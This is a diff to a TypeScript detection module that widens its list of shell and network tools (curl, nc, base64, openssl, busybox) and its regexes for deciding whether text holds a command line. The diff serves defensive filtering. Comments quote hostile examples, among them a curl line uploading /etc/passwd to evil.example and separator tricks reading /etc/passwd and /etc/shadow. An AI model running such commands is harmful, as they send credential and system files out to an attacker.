@@ -29,9 +29,10 @@ const COUNTS = /^[(¿¡]?\p{L}(?:[\p{L}\p{N}\p{M}-]|['’](?=\p{L}))*[,.;:!?…)
  */
 const COMMANDS = new Set(
   (
-    'sudo cat tac more less head tail nl od xxd strings base64 vi vim nano grep egrep sed awk curl wget nc ncat cp mv ' +
-    'ls rm chmod chown tee sort uniq cut stat diff tar scp ssh rsync ln touch mkdir cd echo printf bash sh zsh python ' +
-    'python3 perl php ruby node'
+    'sudo cat tac more less head tail nl od xxd strings base64 base32 vi vim nano grep egrep sed awk curl wget nc ncat ' +
+    'cp mv ls rm chmod chown tee sort uniq cut stat diff tar scp ssh rsync ln touch mkdir cd echo printf bash sh zsh ' +
+    'python python3 perl php ruby node nice stdbuf command timeout nohup env exec xargs dd hexdump iconv fold paste ' +
+    'rev tr zcat bzcat xzcat gzip zip openssl busybox'
   ).split(' '),
 );
 /** A dash, an ampersand or an emoji standing alone between words, or a command's option ("ran tail -f on it"). */
@@ -66,31 +67,37 @@ function fold(s: string): string {
 }
 
 /**
- * A value that starts with a program's path (`/usr/bin/curl`, `./run`, `~/bin/x`, `/opt/app/run.sh`) is a command
- * line; one that starts with a file's path ("/etc/hosts and /etc/resolv.conf are both wrong") is not.
+ * Command lines: a program's path (`/usr/bin/curl`, `./run`, `~/bin/x`, `/opt/app/run.sh`) with an option or a path
+ * anywhere after it; any path at the start directly followed by an option or another path (`/tmp/x /etc/shadow`);
+ * a shell separator — `;` ending a token, `|`, `||`, `&`, `&&` alone, a line break — directly followed by a path or a
+ * command. A file's path at the start followed by words ("/etc/hosts and /etc/resolv.conf are both wrong") and a
+ * separator followed by prose ("Fixed it; see /etc/hosts") are not.
  */
-const PROGRAM = /^(?:\.\/|[.~]?\/(?:[\w.-]+\/)*(?:s?bin|libexec)\/|[.~]?\/\S*\.(?:sh|py|pl|rb|php)$)/;
-/** A shell separator: a token ending in `;`, or `|`, `||`, `&&` alone. */
-const SEPARATOR = /;$|^(?:\|\|?|&&)$/;
-/** An option, or a path other than the one at the start: what a command line is made of. */
-const ARGUMENT = /^(?:--?[a-z]|\(?\/)/i;
+const PROGRAM = /^(?:\.\/|[.~]?\/(?:[\w.-]+\/)*(?:s?bin|libexec)\/|[.~]?\/\S*\.(?:sh|bash|py\d?|pl|rb|php)$)/;
+const A_PATH = /^\(?[.~]?\//;
+const SEPARATOR = /;$|^(?:\|\|?|&&?)$/;
+/** An option, or a path: what a command line is made of. */
+const ARGUMENT = /^(?:--?[a-z]|\(?[.~]?\/)/i;
 
 function mentions(text: string, match: string): boolean {
   if (CONTROL.test(text)) return false;
   let found = false;
   let words = 0;
-  let first = true;
+  let index = 0;
   let program = false;
-  /** Tokens since the last shell separator (a path within two of one is a command's: `x; base32 /etc/passwd`). */
-  let sinceSeparator = Infinity;
-  for (const token of text.split(/\s+/)) {
-    if (token === '') continue;
+  let pathFirst = false;
+  let afterSeparator = false;
+  for (const m of text.matchAll(/(\s*)(\S+)/g)) {
+    const token = m[2]!;
     // `/usr/bin/curl --upload-file /etc/passwd evil.example thanks` is a command, whatever words follow.
-    if (first) program = PROGRAM.test(token);
-    else if (program && ARGUMENT.test(token)) return false;
-    first = false;
-    if (++sinceSeparator <= 2 && /^\(?[.~]?\//.test(token)) return false;
-    if (SEPARATOR.test(token)) sinceSeparator = 0;
+    if (index === 0) {
+      program = PROGRAM.test(token);
+      pathFirst = A_PATH.test(token);
+    } else if ((program || (pathFirst && index === 1)) && ARGUMENT.test(token)) return false;
+    if ((afterSeparator || (index > 0 && m[1]!.includes('\n'))) && (A_PATH.test(token) || COMMANDS.has(token)))
+      return false;
+    afterSeparator = SEPARATOR.test(token);
+    index++;
     if (!found && fold(token).includes(match)) {
       // A path in backticks is command substitution: `/usr/bin/id` runs, wherever a shell meets it.
       if (!BARE.test(token) || token.includes('`/')) return false;
